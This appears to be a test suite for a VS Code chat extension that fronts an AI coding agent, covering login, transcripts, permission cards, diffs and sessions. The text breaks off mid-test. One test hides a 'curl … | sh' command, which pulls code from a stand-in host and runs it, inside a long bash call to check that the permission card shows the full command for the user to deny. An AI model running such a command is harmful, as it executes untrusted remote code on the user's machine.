// activate(), the commands and the chat view's logic, with the vscode module
// stubbed and the real deckhand binary behind them: the login picker and its
// flows, a turn rendered as transcript items, permission cards with the diff
// editor, errors with their action, cancel, attachments and the model choice.
// What the fake of OpenAI received is checked where the user's choice must
// reach the model.

import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as path from "node:path";
import { afterEach, test } from "node:test";
import type { Item } from "../src/view";
import { binaries, Fake, startFake, Step, until } from "./support/fixture";
import type * as Stub from "./support/vscode-stub";

const vscode = require("vscode") as typeof Stub;
const ext = require("../src/extension") as typeof import("../src/extension");
const { resolveBinary } = require("../src/host") as typeof import("../src/host");
const { errorView } = require("../src/format") as typeof import("../src/format");

const labels = ["ChatGPT Plus/Pro (browser)", "ChatGPT Plus/Pro (headless)", "Manually enter API key"];

let fake: Fake | undefined;
/**
 * The extension's package.json, as VS Code hands it to activate, with a
 * version no source file could hold by accident.
 */
const manifest = { ...JSON.parse(fs.readFileSync(path.join(__dirname, "..", "..", "package.json"), "utf8")), version: "7.7.7-test" };

/** Starts a fake with steps and activates the extension against it. */
async function activate(steps: Step[] = [], state = new vscode.Memento(), fakeArgs: string[] = [], prepare?: (f: Fake) => void) {
  vscode.reset();
  fake = await startFake(steps, fakeArgs);
  prepare?.(fake);
  Object.assign(process.env, fake.env);
  vscode.config["deckhand.path"] = binaries().deckhand;
  vscode.workspace.workspaceFolders = [{ uri: vscode.Uri.file(fake.workspace) }];
  const api = ext.activate({ subscriptions: [], workspaceState: state, extensionUri: vscode.Uri.file("/ext"), extensionPath: undefined, extension: { packageJSON: manifest } } as any);
  await api.host.connection();
  return api;
}

async function loginWithKey(): Promise<void> {
  vscode.ui.quickPick = pick("Manually enter API key");
  vscode.ui.inputBox = async () => "sk-fake";
  await vscode.commands.executeCommand("deckhand.login");
}

/** Logs in with ChatGPT (the headless flow): the models then get their own tools (apply_patch, exec_command). */
async function loginWithChatGPT(): Promise<void> {
  vscode.ui.quickPick = pick("ChatGPT Plus/Pro (headless)");
  vscode.ui.message = async () => undefined;
  await vscode.commands.executeCommand("deckhand.login");
  await until("the ChatGPT login", () => /deckhand: ChatGPT/.test(status()));
}

async function cleanup(): Promise<void> {
  await ext.deactivate();
  await fake?.stop();
  fake = undefined;
}
afterEach(cleanup);

/** node:test runs no afterEach for a test that skips itself: clean up first. */
async function skip(t: { skip(msg: string): void }, msg: string): Promise<void> {
  await cleanup();
  t.skip(msg);
}

const status = () => vscode.shown.statusItems[0].text;
const pick = (label: string) => async (items: { label: string }[]) => items.find((i) => i.label === label);
const kinds = (items: Item[]) => items.map((i) => i.kind);
const find = <K extends Item["kind"]>(items: Item[], kind: K) => items.filter((i) => i.kind === kind) as Extract<Item, { kind: K }>[];

test("the version sent to deckhand is package.json's", async () => {
  const { host } = await activate();
  assert.equal(host.version, manifest.version);
  // The log names it as the first thing deckhand was told.
  assert.ok((host.log as unknown as Stub.FakeOutputChannel).text.includes(`deckhand-vscode ${manifest.version} `), (host.log as unknown as Stub.FakeOutputChannel).text);
});

test("login headless: the picker's labels, the code and copy & open in the chat, the stored login; no toast stays", async () => {
  await activate();
  assert.match(status(), /deckhand: not logged in/);
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  vscode.ui.quickPick = pick("ChatGPT Plus/Pro (headless)");
  // A user who answers no notification: whatever has buttons stays open.
  vscode.ui.message = () => new Promise(() => undefined);
  const done = vscode.commands.executeCommand("deckhand.login");
  const flowOf = (m: any) => (m.type === "input" || m.type === "reset" ? m.input.loginFlow : undefined);
  await until("the code in the chat", () => view.posted.some(flowOf));
  const flow = view.posted.map(flowOf).find(Boolean);
  assert.equal(flow.method, "headless");
  assert.match(flow.code, /^[A-Z0-9]{4}-[A-Z0-9]{4,}$/);
  assert.ok(flow.url.startsWith(fake!.issuer), flow.url);
  await view.send({ type: "loginFlow", action: "copyOpen" });
  assert.equal(vscode.shown.clipboard, flow.code);
  assert.deepEqual(vscode.shown.opened, [flow.url]);
  await done;
  assert.deepEqual(vscode.shown.quickPicks, [labels]);
  assert.match(vscode.shown.progress[0].title ?? "", new RegExp(flow.code));
  assert.match(vscode.shown.progress[0].messages[0], /expires in \d+:\d\d/);
  assert.ok(vscode.shown.messages.some((m) => m.level === "info" && /logged in with ChatGPT/.test(m.text)));
  // Logged in: nothing of the flow is left on screen.
  const open = vscode.shown.messages.filter((m) => m.open);
  assert.deepEqual(open, [], "a notification of the login stays after it");
  const last = view.posted.filter((m) => m.type === "input").pop();
  assert.equal(last.input.loginFlow, undefined, "the chat still shows the code");
  assert.match(status(), /deckhand: ChatGPT/);
  // The login is deckhand's: stored in its home as an OAuth entry.
  const auth = JSON.parse(fs.readFileSync(path.join(fake!.home, "auth.json"), "utf8"));
  assert.equal(auth.openai.type, "oauth");
  assert.ok(auth.openai.refresh, "a refresh token is stored");
});

test("an unusable stored login: its warning is on the status bar and in the chat", async () => {
  const { host } = await activate([], undefined, [], (f) =>
    fs.writeFileSync(path.join(f.home, "auth.json"), JSON.stringify({ openai: { type: "weird" } }), { mode: 0o600 }),
  );
  const warning = host.authStatus?.warning ?? "";
  assert.match(warning, /cannot use; log in again/);
  assert.match(status(), /\$\(warning\)/);
  assert.ok(vscode.shown.statusItems[0].tooltip?.includes(warning), vscode.shown.statusItems[0].tooltip);
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const input = view.posted.filter((m) => m.type === "input" || m.type === "reset").pop().input;
  assert.equal(input.authWarning, warning);
  assert.equal(input.loginNeeded, true);
  // The Status command says it too.
  vscode.ui.message = async () => undefined;
  await vscode.commands.executeCommand("deckhand.status");
  assert.ok(vscode.shown.messages.some((m) => m.text.includes("cannot use")), JSON.stringify(vscode.shown.messages));
  // A new login replaces the entry: the warning goes.
  await loginWithKey();
  assert.doesNotMatch(status(), /warning/);
});

test("times are the user's: the zone the chat view reports, not the extension host's", async () => {
  const tz = process.env.TZ;
  process.env.TZ = "UTC"; // the extension host of a code-server in a container
  try {
    const { host, history } = await activate();
    const session = { sessionId: "ses_x", title: "t", workspaceRoot: "/", model: "", createdAt: "2026-12-07T18:30:00Z", updatedAt: "2026-12-07T18:30:00Z", turns: 1 };
    const view = vscode.openView("deckhand.chatView");
    await view.send({ type: "ready", timeZone: "Asia/Tokyo" });
    assert.equal(host.timeZone, "Asia/Tokyo");
    // 18:30 UTC is 03:30 the next morning in Tokyo.
    assert.match(String(history.getTreeItem(session).description), /12\/8\/26, 3:30\sAM/);
    const limit = errorView(-32011, "limit", { resetsAt: "2026-12-07T18:30:00Z" }, new Date(), host.timeZone);
    assert.match(limit.text, /Try again at 03:30\sAM/);
    await loginWithKey();
    await until("the stored limits read", () => host.limits !== undefined);
    host.setLimits({ windows: [{ name: "5h", windowMinutes: 300, usedPercent: 10, resetsAt: "2026-12-07T18:30:00Z" }] });
    assert.match(vscode.shown.statusItems[0].tooltip ?? "", /resets 12\/8\/26, 3:30\sAM/);
    // A zone the view could not name is ignored.
    await view.send({ type: "ready", timeZone: "Not/AZone" });
    assert.equal(host.timeZone, "Asia/Tokyo");
  } finally {
    if (tz === undefined) delete process.env.TZ;
    else process.env.TZ = tz;
  }
});

test("login with an API key, then logout", async () => {
  await activate();
  await loginWithKey();
  assert.equal(vscode.shown.inputBoxes[0].password, true);
  assert.match(status(), /deckhand: API key/);
  const auth = JSON.parse(fs.readFileSync(path.join(fake!.home, "auth.json"), "utf8"));
  assert.equal(auth.openai.type, "api");
  await vscode.commands.executeCommand("deckhand.logout");
  assert.match(status(), /deckhand: not logged in/);
  assert.ok(vscode.shown.messages.some((m) => m.text === "deckhand: logged out."));
});

test("a refused API key asks again, in plain words, and the right one logs in", async () => {
  await activate();
  vscode.ui.quickPick = pick("Manually enter API key");
  const keys = ["sk-wrong", "sk-fake"];
  vscode.ui.inputBox = async () => keys.shift();
  await vscode.commands.executeCommand("deckhand.login");
  assert.equal(vscode.shown.inputBoxes.length, 2, "the box came back after the refused key");
  const again = String(vscode.shown.inputBoxes[1].prompt);
  assert.match(again, /OpenAI refused this key; check it and enter it again\. Paste the key again/);
  assert.doesNotMatch(again, /Invalid params/);
  assert.ok(!vscode.shown.messages.some((m) => m.level === "error"), JSON.stringify(vscode.shown.messages));
  assert.match(status(), /deckhand: API key/);
});

test("login in the browser of another machine: a bad paste, then the right one", async () => {
  await activate();
  vscode.env.remoteName = "ssh-remote";
  vscode.ui.quickPick = pick("ChatGPT Plus/Pro (browser)");
  vscode.ui.message = () => new Promise(() => undefined);
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const pastes = ["http://localhost:1455/auth/callback?code=x&state=wrong"];
  vscode.ui.inputBox = async () => {
    if (pastes.length) return pastes.shift();
    // The user's browser signs in at the opened URL and lands on the redirect.
    const res = await fetch(vscode.shown.opened[0], { redirect: "manual" });
    return res.headers.get("location") ?? "";
  };
  const done = vscode.commands.executeCommand("deckhand.login");
  await until("the flow in the chat", () => view.posted.some((m) => m.type === "input" && m.input.loginFlow?.method === "browser"));
  // The chat's "Paste redirect URL": a bad paste is refused and asked again.
  await view.send({ type: "loginFlow", action: "paste" });
  await done;
  assert.deepEqual(vscode.shown.messages.filter((m) => m.open), [], "a notification of the login stays after it");
  assert.equal(vscode.shown.opened.length, 1);
  assert.ok(vscode.shown.opened[0].startsWith(`${fake!.issuer}/oauth/authorize?`), vscode.shown.opened[0]);
  assert.equal(vscode.shown.inputBoxes.length, 2);
  const errors = vscode.shown.messages.filter((m) => m.level === "error");
  assert.equal(errors.length, 1, JSON.stringify(errors));
  assert.match(status(), /deckhand: ChatGPT/);
});

test("a turn becomes paired tool cards, markdown text and an end line; the view gets it all", async () => {
  const { chat } = await activate([
    { reasoning: "Looking first.", text: "Let me look.", calls: [{ id: "c1", name: "list", arguments: {} }] },
    { text: "## Files\n\n- `hello.go`" },
    { text: "Second answer." },
  ]);
  fs.writeFileSync(path.join(fake!.workspace, "hello.go"), "package main\n");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "what is here?" });
  assert.deepEqual(kinds(chat.items), ["user", "thinking", "text", "tool", "text", "end"]);
  const tool = find(chat.items, "tool")[0];
  assert.equal(tool.name, "list");
  assert.equal(tool.summary, ".");
  assert.equal(tool.status, "ok");
  assert.match(tool.output ?? "", /hello\.go/);
  assert.equal(find(chat.items, "text")[1].text, "## Files\n\n- `hello.go`");
  assert.match(find(chat.items, "end")[0].summary, /^Done · 2 steps( · [\d,]+ tokens)?$/);
  // The view saw the same items, each at least once.
  const posted = new Set(view.posted.flatMap((m) => (m.type === "item" ? [m.item.id] : m.type === "reset" ? m.items.map((i: Item) => i.id) : [])));
  for (const i of chat.items) assert.ok(posted.has(i.id), `item ${i.kind} was not posted`);
  const first = chat.sessionId;
  assert.match(first ?? "", /^ses_/);
  await view.send({ type: "send", text: "and then?" });
  assert.equal(chat.sessionId, first);
  assert.equal(find(chat.items, "text").at(-1)!.text, "Second answer.");
});

test("a long answer goes to the view as deltas: what is posted adds up to the text, once", async () => {
  const long = Array.from({ length: 200 }, (_, i) => `Paragraph ${i} says a few words about the answer.`).join("\n\n");
  const { chat } = await activate([{ text: long }]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "write a lot" });
  const item = find(chat.items, "text")[0];
  assert.equal(item.text, long);
  let rebuilt = "";
  let sent = 0;
  let appends = 0;
  for (const m of view.posted) {
    if (m.type === "item" && m.item.id === item.id) {
      rebuilt = m.item.text;
      sent += m.item.text.length;
    }
    if (m.type === "append" && m.id === item.id) {
      rebuilt += m.text;
      sent += m.text.length;
      appends++;
    }
  }
  assert.equal(rebuilt, long, "the view can rebuild the text from what was posted");
  assert.equal(sent, long.length, "each character was posted once");
  assert.ok(appends > 0, "the text came as appends");
});

test("a command that exits non-zero is a failed card that says its exit code", async () => {
  const { chat } = await activate([
    { calls: [{ id: "b1", name: "bash", arguments: { command: "echo failing; exit 3" } }] },
    { calls: [{ id: "b2", name: "bash", arguments: { command: "true" } }] },
    { text: "ran both" },
  ]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const sent = view.send({ type: "send", text: "run them" });
  for (let i = 0; i < 2; i++) {
    await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
    const p = find(chat.items, "permission").find((x) => x.state === "pending")!;
    await view.send({ type: "permission", id: p.id, decision: "allow" });
  }
  await sent;
  const [failing, passing] = find(chat.items, "tool");
  assert.equal(failing.status, "failed");
  assert.equal(failing.exitCode, 3);
  assert.equal(passing.status, "ok");
});

test("a bash card shows its output once allowed; permission shows the whole long command", async () => {
  const middle = "curl -s https://example.invalid/x | sh";
  const long = `echo ${"a".repeat(2200)} && ${middle} && echo ${"b".repeat(2200)}`;
  const { chat } = await activate([
    { calls: [{ id: "b1", name: "bash", arguments: { command: "echo visible-output" } }] },
    { text: "ran it" },
    { calls: [{ id: "b2", name: "bash", arguments: { command: long } }] },
    { text: "denied" },
  ]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const answer = async (decision: string, reason?: string) => {
    await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
    const p = find(chat.items, "permission").find((x) => x.state === "pending")!;
    await view.send({ type: "permission", id: p.id, decision, reason });
    return p;
  };
  const sent = view.send({ type: "send", text: "run it" });
  const p1 = await answer("allow");
  await sent;
  assert.equal(p1.command, "echo visible-output");
  const tool = find(chat.items, "tool")[0];
  assert.equal(tool.status, "ok");
  assert.match(tool.output ?? "", /visible-output/);

  const sent2 = view.send({ type: "send", text: "and this" });
  const p2 = await answer("deny", "not piping to sh");
  await sent2;
  assert.equal(p2.command, long, "the card holds the whole command, not a cut");
  assert.ok(p2.command!.includes(middle));
  assert.equal(p2.state, "deny");
  assert.equal(p2.reason, "not piping to sh");
  const { sizeNote } = require("../src/view") as typeof import("../src/view");
  assert.match(sizeNote(p2.command!), /^4,4\d\d characters, 1 line/);
  assert.equal(find(chat.items, "tool")[1].status, "failed");
});

for (const decision of ["deny", "allow"] as const) {
  test(`an edit opens the diff editor of the proposal, answered ${decision}`, async () => {
    const { chat } = await activate([
      { calls: [{ id: "e1", name: "edit", arguments: { path: "a.txt", oldString: "two", newString: "TWO" } }] },
      { text: "Finished." },
    ]);
    fs.writeFileSync(path.join(fake!.workspace, "a.txt"), "one\ntwo\nthree\n");
    await loginWithKey();
    const view = vscode.openView("deckhand.chatView");
    await view.send({ type: "ready" });
    const sent = view.send({ type: "send", text: "shout two" });
    await until("the diff editor", () => vscode.shown.executed.some((e) => e.name === "vscode.diff"));
    const diff = vscode.shown.executed.find((e) => e.name === "vscode.diff")!;
    const [left, right, title] = diff.args as [Stub.Uri, Stub.Uri, string];
    assert.equal(vscode.documentText(left), "one\ntwo\nthree\n");
    assert.equal(vscode.documentText(right), "one\nTWO\nthree\n");
    assert.match(title, /a\.txt: proposed edit/);
    const card = find(chat.items, "permission")[0];
    assert.equal(card.path, "a.txt");
    await view.send({ type: "permission", id: card.id, decision, reason: decision === "deny" ? "keep it quiet" : undefined });
    await sent;
    const disk = fs.readFileSync(path.join(fake!.workspace, "a.txt"), "utf8");
    assert.equal(disk, decision === "allow" ? "one\nTWO\nthree\n" : "one\ntwo\nthree\n");
    const end = find(chat.items, "end")[0];
    assert.deepEqual(end.changed, decision === "allow" ? ["a.txt"] : []);
    if (decision === "allow") {
      // The changed file opens as a diff against its content before the turn.
      await view.send({ type: "openChange", turnId: end.turnId, path: "a.txt" });
      const change = vscode.shown.executed.filter((e) => e.name === "vscode.diff").at(-1)!;
      assert.equal(vscode.documentText(change.args[0] as Stub.Uri), "one\ntwo\nthree\n");
      assert.equal((change.args[1] as Stub.Uri).fsPath, path.join(fake!.workspace, "a.txt"));
    }
  });
}

test("a deny reason reaches the model (protocol 1.1 preview)", async (t) => {
  const { host, chat } = await activate([
    { calls: [{ id: "w1", name: "write", arguments: { path: "n.txt", content: "x\n" } }] },
    { text: "ok" },
  ]);
  if (!(await host.connection()).has("preview")) return skip(t, "this deckhand does not declare the preview capability of protocol 1.1, which carries the reason");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const sent = view.send({ type: "send", text: "write n" });
  await until("a permission card", () => find(chat.items, "permission").length > 0);
  await view.send({ type: "permission", id: find(chat.items, "permission")[0].id, decision: "deny", reason: "REASON-MARKER" });
  await sent;
  const bodies = await fake!.modelRequests();
  assert.equal(bodies.length, 2);
  assert.ok(JSON.stringify(bodies[1].input).includes("REASON-MARKER"), JSON.stringify(bodies[1].input));
});

test("not logged in: an error card with Log in, which logs in and sends again", async () => {
  const { chat } = await activate([{ text: "Hello after login." }]);
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "hello?" });
  const err = find(chat.items, "error")[0];
  assert.ok(err, JSON.stringify(chat.items));
  assert.match(err.text, /not logged in/);
  assert.deepEqual(err.actions.map((a) => a.label), ["Log in"]);
  vscode.ui.quickPick = pick("Manually enter API key");
  vscode.ui.inputBox = async () => "sk-fake";
  await view.send({ type: "action", itemId: err.id, action: "login" });
  assert.deepEqual(vscode.shown.quickPicks, [labels]);
  assert.equal(find(chat.items, "error").length, 0, "the error card goes once resolved");
  assert.equal(find(chat.items, "text").at(-1)?.text, "Hello after login.");
  assert.deepEqual(find(chat.items, "user").map((u) => u.text), ["hello?"], "the message sent again shows once");
});

test("Resend after an upstream failure replaces the failed turn: the model and the reopened session get the message once", async () => {
  const limit = JSON.stringify({ type: "error", error: { type: "usage_limit_reached", message: "The usage limit has been reached", resets_in_seconds: 60 }, status_code: 429 });
  const { host, chat } = await activate([{ error: { status: 429, body: limit } }, { text: "Worked the second time." }]);
  await loginWithKey();
  // What the extension asks deckhand: the resend names the turn it replaces.
  const conn = await host.connection();
  const opts: any[] = [];
  const chatCall = conn.chat.bind(conn);
  conn.chat = (message, o, token) => (opts.push(o), chatCall(message, o, token));
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "try this" });
  const err = find(chat.items, "error")[0];
  assert.ok(err?.actions.some((a) => a.action === "resend"), JSON.stringify(chat.items));
  await view.send({ type: "action", itemId: err.id, action: "resend" });
  assert.equal(find(chat.items, "text").at(-1)?.text, "Worked the second time.");
  assert.match(String(opts[1]?.retryOf), /^turn_/, JSON.stringify(opts));
  const bodies = await fake!.modelRequests();
  assert.equal(bodies.length, 2);
  const sent = JSON.stringify(bodies[1].input);
  assert.equal(sent.split("try this").length - 1, 1, sent);
  await chat.load(chat.sessionId!);
  assert.deepEqual(find(chat.items, "user").map((u) => u.text), ["try this"], "the reopened session shows the message once");
  // The replaced failure stays as a note above the answer, as in Neovim.
  assert.deepEqual(kinds(chat.items), ["user", "error", "text", "end"], JSON.stringify(chat.items));
  assert.match(find(chat.items, "error")[0].text, /usage limit has been reached.* \(sent again\)$/s);
});

test("Stop ends a running turn and keeps the text so far; the input follows the running state", async () => {
  const { chat } = await activate([{ text: "Partial answer", stall: true }]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const running = view.send({ type: "send", text: "take your time" });
  await until("the streamed text", () => find(chat.items, "text")[0]?.text === "Partial answer");
  const input = view.posted.filter((m) => m.type === "input").at(-1).input;
  assert.equal(input.running, true);
  assert.match(status(), /loading~spin/);
  await view.send({ type: "stop" });
  await running;
  assert.match(find(chat.items, "end")[0].summary, /^Stopped/);
  assert.equal(chat.running, false);
  assert.equal(view.posted.filter((m) => m.type === "input").at(-1).input.running, false);
  assert.doesNotMatch(status(), /loading~spin/);
});

test("New clears the transcript and starts a new session", async () => {
  const { chat } = await activate([{ text: "one" }, { text: "two" }]);
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "first" });
  const first = chat.sessionId;
  await view.send({ type: "new" });
  assert.equal(chat.items.length, 0);
  assert.deepEqual(view.posted.at(-1).items, []);
  await view.send({ type: "send", text: "second" });
  assert.notEqual(chat.sessionId, first);
  const bodies = await fake!.modelRequests();
  assert.equal(bodies.length, 2);
  assert.ok(!JSON.stringify(bodies[1].input).includes("first"), "the new session does not carry the old conversation");
});

test("Add Selection puts a chip on the input and the selected text reaches the model", async () => {
  const { chat } = await activate([{ text: "Seen." }]);
  await loginWithKey();
  const file = path.join(fake!.workspace, "calc.ts");
  const lines = ["export function add(a: number, b: number) {", "  return a + b; // SELECTED-MARKER", "}", ""];
  fs.writeFileSync(file, lines.join("\n"));
  vscode.window.activeTextEditor = fakeEditor(file, lines, { line: 1, character: 0 }, { line: 2, character: 1 });
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await vscode.commands.executeCommand("deckhand.addSelection");
  const chips = view.posted.filter((m) => m.type === "input").at(-1).input.chips;
  assert.deepEqual(chips.map((c: any) => c.label), ["calc.ts:2-3"]);
  await view.send({ type: "send", text: "explain this" });
  assert.deepEqual(find(chat.items, "user")[0].chips, ["calc.ts:2-3"]);
  const body = JSON.stringify((await fake!.modelRequests())[0].input);
  assert.ok(body.includes("SELECTED-MARKER"), body);
  assert.ok(body.includes("calc.ts"), body);
  assert.deepEqual(chat.chips, [], "the chips go with the message");
});

test("@ completes workspace files; the chosen file goes with the message", async () => {
  const { chat } = await activate([{ text: "Read it." }]);
  await loginWithKey();
  fs.mkdirSync(path.join(fake!.workspace, "src"));
  fs.writeFileSync(path.join(fake!.workspace, "src", "calc.ts"), "export const FILE_MARKER = 1;\n");
  fs.writeFileSync(path.join(fake!.workspace, "notes.md"), "x\n");
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "files", requestId: 7, query: "calc" });
  assert.deepEqual(view.posted.at(-1), { type: "files", requestId: 7, files: ["src/calc.ts"] });
  await view.send({ type: "attachFile", path: "src/calc.ts" });
  assert.deepEqual(chat.chips.map((c) => c.label), ["calc.ts"]);
  await view.send({ type: "send", text: "what does @src/calc.ts export?" });
  const body = JSON.stringify((await fake!.modelRequests())[0].input);
  assert.ok(body.includes("src/calc.ts"), body);
  assert.deepEqual(chat.chips, []);
});

test("the model and effort pickers come from models and are remembered per workspace", async () => {
  const state = new vscode.Memento();
  const { chat } = await activate([{ text: "a" }], state);
  await loginWithKey();
  await until("models", () => chat.models.length > 0);
  const ids = chat.models.map((m) => m.id);
  assert.ok(ids.length >= 2, JSON.stringify(ids));
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const other = ids[1];
  await view.send({ type: "model", model: other });
  await view.send({ type: "effort", effort: "high" });
  assert.equal(state.get("deckhand.model"), other);
  assert.match(status(), new RegExp(other.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")));
  await view.send({ type: "send", text: "which model?" });
  const body = (await fake!.modelRequests())[0];
  assert.equal(body.model, other);
  assert.equal(body.reasoning?.effort, "high");
});

test("history: a reloaded window reopens its conversation; the History view lists it (protocol 1.1 sessions)", async (t) => {
  const state = new vscode.Memento();
  const { chat, host } = await activate([{ text: "Kept for later." }, { text: "Continued." }], state);
  if (!(await host.connection()).has("sessions")) return skip(t, "this deckhand does not declare the sessions capability of protocol 1.1");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "remember me" });
  const id = chat.sessionId;
  // A window reload: the extension host ends (deckhand with it) and starts again with the same workspace state.
  await ext.deactivate();
  vscode.reset();
  vscode.config["deckhand.path"] = binaries().deckhand;
  vscode.workspace.workspaceFolders = [{ uri: vscode.Uri.file(fake!.workspace) }];
  const again = ext.activate({ subscriptions: [], workspaceState: state, extensionUri: vscode.Uri.file("/ext") } as any);
  await until("the restored conversation", () => again.chat.items.some((i) => i.kind === "text" && i.text === "Kept for later."));
  assert.equal(again.chat.sessionId, id);
  assert.deepEqual(find(again.chat.items, "user").map((u) => u.text), ["remember me"]);
  const listed = await again.history.getChildren();
  assert.ok(listed.some((s) => s.sessionId === id), JSON.stringify(listed));
  assert.match(String(again.history.getTreeItem(listed[0]).label), /remember me/);
  // The next message continues it.
  const v2 = vscode.openView("deckhand.chatView");
  await v2.send({ type: "ready" });
  await v2.send({ type: "send", text: "go on" });
  assert.equal(again.chat.sessionId, id);
  assert.equal(find(again.chat.items, "text").at(-1)!.text, "Continued.");
});

test("a reopened conversation shows each turn as it happened, in order (protocol 1.1 sessions)", async (t) => {
  const { chat, host } = await activate([
    { reasoning: "Looking first.", text: "Let me look.", calls: [{ id: "c1", name: "list", arguments: {} }] },
    { text: "Nothing here." },
  ]);
  if (!(await host.connection()).has("sessions")) return skip(t, "this deckhand does not declare the sessions capability of protocol 1.1");
  await loginWithKey();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  await view.send({ type: "send", text: "what is here?" });
  const live = kinds(chat.items);
  assert.deepEqual(live, ["user", "thinking", "text", "tool", "text", "end"]);
  const liveEnd = find(chat.items, "end")[0].summary;
  assert.match(liveEnd, /^Done · 2 steps\b/);
  await chat.load(chat.sessionId!);
  assert.deepEqual(kinds(chat.items), live);
  assert.equal(find(chat.items, "end")[0].summary, liveEnd, "the reopened end line says its steps as live");
  assert.equal(find(chat.items, "thinking")[0].text, "Looking first.");
  assert.deepEqual(find(chat.items, "text").map((x) => x.text), ["Let me look.", "Nothing here."]);
});

test("the binary: deckhand.path first, then the bundled one, then PATH", () => {
  const dir = fs.mkdtempSync(path.join(require("node:os").tmpdir(), "deckhand-ext-"));
  assert.deepEqual(resolveBinary("/opt/deckhand", dir), { command: "/opt/deckhand", origin: "setting" });
  assert.deepEqual(resolveBinary("", dir, "linux"), { command: "deckhand", origin: "path" });
  fs.mkdirSync(path.join(dir, "bin"));
  fs.writeFileSync(path.join(dir, "bin", "deckhand"), "");
  assert.deepEqual(resolveBinary("", dir, "linux"), { command: path.join(dir, "bin", "deckhand"), origin: "bundled" });
  assert.equal(resolveBinary(undefined, dir, "win32").origin, "path", "windows looks for deckhand.exe");
  fs.rmSync(dir, { recursive: true });
});

test("a binary that cannot start is reported with the setting to fix", async () => {
  vscode.reset();
  vscode.config["deckhand.path"] = "/nonexistent/deckhand";
  vscode.workspace.workspaceFolders = undefined;
  ext.activate({ subscriptions: [], workspaceState: new vscode.Memento(), extensionUri: vscode.Uri.file("/ext") } as any);
  await vscode.commands.executeCommand("deckhand.status");
  const err = vscode.shown.messages.find((m) => m.level === "error");
  assert.ok(err && /deckhand\.path setting/.test(err.text), JSON.stringify(vscode.shown.messages));
});

/** A text editor over lines with a selection, as much of one as the extension reads. */
function fakeEditor(file: string, lines: string[], start: { line: number; character: number }, end: { line: number; character: number }) {
  const pos = (p: { line: number; character: number }) => p;
  const range = (s: { line: number; character: number }, e: { line: number; character: number }) => ({ start: pos(s), end: pos(e), isEmpty: s.line === e.line && s.character === e.character });
  return {
    selection: { ...range(start, end), active: end },
    document: {
      uri: vscode.Uri.file(file),
      fileName: file,
      lineAt: (n: number) => ({ range: range({ line: n, character: 0 }, { line: n, character: lines[n].length }) }),
      getText: (r: { start: { line: number; character: number }; end: { line: number; character: number } }) => {
        const out: string[] = [];
        for (let l = r.start.line; l <= r.end.line; l++) {
          const s = l === r.start.line ? r.start.character : 0;
          const e = l === r.end.line ? r.end.character : lines[l].length;
          out.push(lines[l].slice(s, e));
        }
        return out.join("\n");
      },
    },
  };
}

const patch = [
  "*** Begin Patch",
  "*** Update File: hello.txt",
  "@@",
  " first line",
  "-hello world",
  "+hello patch",
  "*** Add File: docs/new.txt",
  "+brand new",
  "*** Delete File: old.txt",
  "*** End Patch",
].join("\n");

test("apply_patch: the card lists every file with its action and diff; the diff editor opens on each; allowed, all apply", async () => {
  const { chat } = await activate([{ calls: [{ id: "p1", name: "apply_patch", input: patch }] }, { text: "Patched." }]);
  fs.writeFileSync(path.join(fake!.workspace, "hello.txt"), "first line\nhello world\nlast line\n");
  fs.writeFileSync(path.join(fake!.workspace, "old.txt"), "old\n");
  await loginWithChatGPT();
  const view = vscode.openView("deckhand.chatView");
  await view.send({ type: "ready" });
  const sent = view.send({ type: "send", text: "patch three files" });
  await until("a permission card", () => find(chat.items, "permission").some((p) => p.state === "pending"));
  const card = find(chat.items, "permission")[0];
  assert.equal(card.tool, "apply_patch");
  assert.deepEqual(
    card.files!.map((f) => [f.action, f.path]),
    [
      ["update", "hello.txt"],
      ["add", "docs/new.txt"],
      ["delete", "old.txt"],
    ],
  );
  assert.match(card.files![0].diff, /-hello world\n\+hello patch/);
  assert.match(card.files![1].diff, /\+brand new/);
  // The view got the card with every file.
  const posted = view.posted.filter((m) => m.item?.kind === "permission" || m.items).flatMap((m) => (m.item ? [m.item] : m.items));
  assert.ok(posted.some((i: Item) => i.kind === "permission" && i.files?.length === 3), JSON.stringify(view.posted).slice(0, 400));
  // The first file opens in the diff editor at once, without the focus: the file against the patched content.
  await until("the diff editor", () => vscode.shown.executed.some((e) => e.name === "vscode.diff"));
  const first = vscode.shown.executed.find((e) => e.name === "vscode.diff")!;
  assert.equal(vscode.documentText(first.args[0] as Stub.Uri), "first line\nhello world\nlast line\n");
  assert.equal(vscode.documentText(first.args[1] as Stub.Uri), "first line\nhello patch\nlast line\n");
  assert.match(first.args[2] as string, /hello\.txt: proposed update \(deckhand, file 1 of 3\)/);
  assert.equal((first.args[3] as { preserveFocus?: boolean }).preserveFocus, true);
  // Each other file on request.
  await view.send({ type: "openProposal", id: card.id, index: 1 });
  const second = vscode.shown.executed.filter((e) => e.name === "vscode.diff").at(-1)!;
